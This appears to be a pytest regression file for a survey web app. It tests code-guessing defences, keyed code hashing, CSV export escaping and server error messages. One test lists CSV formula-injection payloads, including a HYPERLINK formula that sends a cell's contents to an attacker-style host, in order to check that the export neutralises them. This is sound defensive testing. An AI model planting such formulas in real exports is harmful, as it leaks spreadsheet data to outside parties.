"""The form against a code guesser, and the admin export against formula injection (issue 15)."""

from __future__ import annotations

import csv
import io
import os
import socket
import stat
import subprocess
import sys
import time
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from civiclab.cli import main
from civiclab.survey.codes import hash_code, legacy_hash_code
from civiclab.survey.store import SurveyStore
from civiclab.survey.web import ADMIN_TOKEN_ENV, create_app
from tests.survey.conftest import EXPERIMENT, SurveyServer, csrf_token, full_answers

ROOT = Path(__file__).resolve().parents[2]


def _client(survey: SurveyServer, **options: int) -> tuple[TestClient, str]:
    client = TestClient(create_app(survey.ctx, survey.store, **options), follow_redirects=False)
    return client, csrf_token(client.get("/fr/").text)


def _submit(client: TestClient, token: str, survey: SurveyServer, code: str) -> int:
    data = {**full_answers(survey.ctx), "csrf_token": token, "code": code, "page": "3"}
    return client.post("/fr/survey", data=data).status_code


# Guards issue 15: on main the start page answered 409 for a used code and 422 for an unknown one.
def test_a_used_and_an_unknown_code_get_the_same_answer(survey: SurveyServer) -> None:
    used, _open = survey.store.create_invitations(EXPERIMENT, 2)
    client, token = _client(survey)
    assert _submit(client, token, survey, used) == 303
    answers = []
    for code in (used, "WXYZ-WXYZ-WXYZ"):
        page = client.post("/fr/start", data={"csrf_token": token, "code": code})
        body = page.text.replace(code, "CODE")  # the form echoes what was typed
        answers.append((page.status_code, body))
    assert answers[0] == answers[1] and answers[0][0] == 422
    # The pages after the start page and the final submission do not tell them apart either.
    statuses = {_submit(client, token, survey, code) for code in (used, "WXYZ-WXYZ-WXYZ")}
    assert statuses == {400}


# Guards issue 15: on main 300 wrong codes at 320 requests/s were all answered.
def test_a_code_guesser_gets_429_and_other_clients_do_not(survey: SurveyServer) -> None:
    client, token = _client(survey, rate_limit=10)
    statuses = [
        client.post("/fr/start", data={"csrf_token": token, "code": f"AAAA-BBBB-{i:04d}"}).status_code
        for i in range(25)
    ]
    assert statuses[:10] == [422] * 10 and set(statuses[10:]) == {429}
    refused = client.post("/fr/start", data={"csrf_token": token, "code": "X"})
    assert refused.headers["retry-after"] == "60" and "Trop d&#39;essais" in refused.text
    assert client.get("/fr/").status_code == 200  # reading pages is never limited
    code = survey.store.create_invitations(EXPERIMENT, 1)[0]
    other = TestClient(
        create_app(survey.ctx, survey.store, rate_limit=10), client=("10.0.0.2", 5000), follow_redirects=False
    )
    assert (
        other.post(
            "/fr/start", data={"csrf_token": csrf_token(other.get("/fr/").text), "code": code}
        ).status_code
        == 200
    )


# Guards issue 15: codes were hashed with the public experiment name as the only salt.
def test_code_hashes_are_keyed_by_a_lab_secret_created_once_with_mode_0600(
    survey: SurveyServer, lab_home: Path
) -> None:
    code = survey.store.create_invitations(EXPERIMENT, 1)[0]
    key = lab_home / "secrets" / "survey-codes"
    assert stat.S_IMODE(key.stat().st_mode) == 0o600
    secret = key.read_bytes()
    dump = b"".join(
        p.read_bytes() for p in Path(survey.url.removeprefix("sqlite:///")).parent.glob("survey.db*")
    )
    assert hash_code(EXPERIMENT, code, secret).encode() in dump
    assert legacy_hash_code(EXPERIMENT, code).encode() not in dump  # not computable from public data
    assert hash_code(EXPERIMENT, code, b"another lab's secret") != hash_code(EXPERIMENT, code, secret)
    before = key.read_bytes()
    SurveyStore(survey.url).create_invitations(EXPERIMENT, 1)
    assert key.read_bytes() == before  # created once


def test_codes_handed_out_before_the_lab_secret_still_work(survey: SurveyServer) -> None:
    import sqlalchemy as sa

    from civiclab.survey.store import invitations

    with survey.store.engine.begin() as conn:
        conn.execute(
            invitations.insert().values(
                experiment=EXPERIMENT,
                code_hash=legacy_hash_code(EXPERIMENT, "OLDC-ODEA-BCDE"),
                segment={},
                created_at="2026-01-01T00:00:00+00:00",
            )
        )
    assert survey.store.invitation(EXPERIMENT, "oldc odea bcde").state == "open"
    client, token = _client(survey)
    assert _submit(client, token, survey, "OLDC-ODEA-BCDE") == 303
    assert survey.store.invitation(EXPERIMENT, "OLDC-ODEA-BCDE").state == "used"
    assert sa is not None


# Guards issue 15 "CSV formula injection": `=HYPERLINK(...)` was written unchanged.
def test_the_admin_export_neutralises_formulas(survey: SurveyServer, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv(ADMIN_TOKEN_ENV, "t0ken-for-the-lab")
    dangerous = [
        '=HYPERLINK("http://evil.example/?x="&A1;"clic")',
        "+33 6 00",
        "-2+3",
        "@SUM(A1)",
        "\tx",
        "\rx",
    ]
    for text in dangerous:
        code = survey.store.create_invitations(EXPERIMENT, 1)[0]
        survey.store.submit(EXPERIMENT, code, {**{"SUS[SQ001]": 3}, "FB[SQ001]": text}, "fr", 4)
    client, _ = _client(survey, rate_limit=0)
    text = client.get("/admin/export.csv", headers={"authorization": "Bearer t0ken-for-the-lab"}).text
    cells = [row["FB[SQ001]"] for row in csv.DictReader(io.StringIO(text, newline=""))]
    assert cells == ["'" + t for t in dangerous]
    assert all(row["SUS[SQ001]"] == "3" for row in csv.DictReader(io.StringIO(text, newline="")))


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


# Guards issue 15: `survey serve --port 99999` printed 71 lines of traceback.
def test_serve_on_a_port_out_of_range_is_one_line(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    store = f"sqlite:///{tmp_path / 's.db'}"
    assert main(["survey", "serve", "--experiment", "x", "--store", store, "--port", "99999"]) == 2
    err = capsys.readouterr().err.strip().splitlines()
    assert err == ["civiclab: error: --port 99999: give a port from 1 to 65535"]


# Guards issue 15: a port in use printed "serving on http://..." and then failed with rc 3.
def test_serve_on_a_port_in_use_fails_before_saying_it_serves(tmp_path: Path) -> None:
    port = _free_port()
    with socket.create_server(("127.0.0.1", port)):
        started = time.perf_counter()
        done = subprocess.run(
            [
                sys.executable,
                "-m",
                "civiclab.cli",
                "survey",
                "serve",
                "--experiment",
                "x",
                "--port",
                str(port),
                "--store",
                f"sqlite:///{tmp_path / 's.db'}",
            ],
            capture_output=True,
            text=True,
            timeout=60,
            cwd=tmp_path,
            env={**os.environ, "PYTHONPATH": str(ROOT)},
        )
    assert done.returncode == 2 and time.perf_counter() - started < 30
    assert "on http://" not in done.stderr
    assert done.stderr.strip().splitlines()[-1] == (
        f"civiclab: error: --port {port}: cannot listen on 127.0.0.1:{port}: already in use (another server runs there?)"
    )
